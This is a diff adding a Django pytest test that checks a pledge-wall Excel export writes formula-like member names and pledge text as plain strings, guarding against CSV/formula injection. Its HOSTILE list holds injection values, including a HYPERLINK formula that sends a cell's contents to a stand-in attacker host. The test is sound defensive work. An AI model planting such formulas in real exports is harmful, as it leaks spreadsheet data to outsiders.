@@ -1,9 +1,13 @@
 import io
+import zipfile
+from datetime import date
 
 import pytest
 from django.urls import reverse
 
-from chuangxian.pledges.models import PledgeStatus
+from chuangxian.orgs.models import Member
+from chuangxian.orgs.tests.factories import MemberFactory
+from chuangxian.pledges.models import Pledge, PledgeStatus
 from chuangxian.pledges.services import pledge_review
 from chuangxian.pledges.tests.test_views import _many_pledges
 
@@ -53,3 +57,46 @@ def test_excel_query_count_does_not_grow(client, tree, personas, campaign, djang
     with django_assert_max_num_queries(12):
         response = client.get(reverse("pledges:wall_xlsx", args=[tree.college.pk]))
     assert response.status_code == 200
+
+
+# Text a member controls, as Excel would run it if it were stored as a formula (OWASP CSV injection).
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?leak="&B3,"点击查看")',
+    "+1+2",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\t=1+2",
+    "\r=1+2",
+]
+
+
+def test_wall_excel_writes_formula_like_pledges_and_names_as_plain_text(client, tree, personas, campaign):
+    from openpyxl import load_workbook
+
+    members = MemberFactory.create_batch(len(HOSTILE), unit=tree.group)
+    for member, text in zip(members, HOSTILE, strict=True):
+        Member.objects.filter(pk=member.pk).update(name=text)
+    Pledge.objects.bulk_create(
+        Pledge(
+            tenant_id=tree.tenant.pk,
+            campaign=campaign,
+            member=member,
+            unit=tree.group,
+            content=text,
+            due_on=date(2011, 7, 1),
+            check_standard=text,
+            status=PledgeStatus.PUBLISHED,
+        )
+        for member, text in zip(members, HOSTILE, strict=True)
+    )
+    client.force_login(personas.chair)
+    response = client.get(reverse("pledges:wall_xlsx", args=[tree.college.pk]))
+    assert response.status_code == 200
+    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
+        xml = archive.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in xml and "<f " not in xml
+    rows = list(load_workbook(io.BytesIO(response.content)).active.iter_rows(min_row=3))
+    written = {row[4].value: (row[2], row[4], row[6]) for row in rows}
+    assert set(written) == set(HOSTILE)
+    for text, cells in written.items():
+        assert [(cell.value, cell.data_type) for cell in cells] == [(text, "s")] * 3
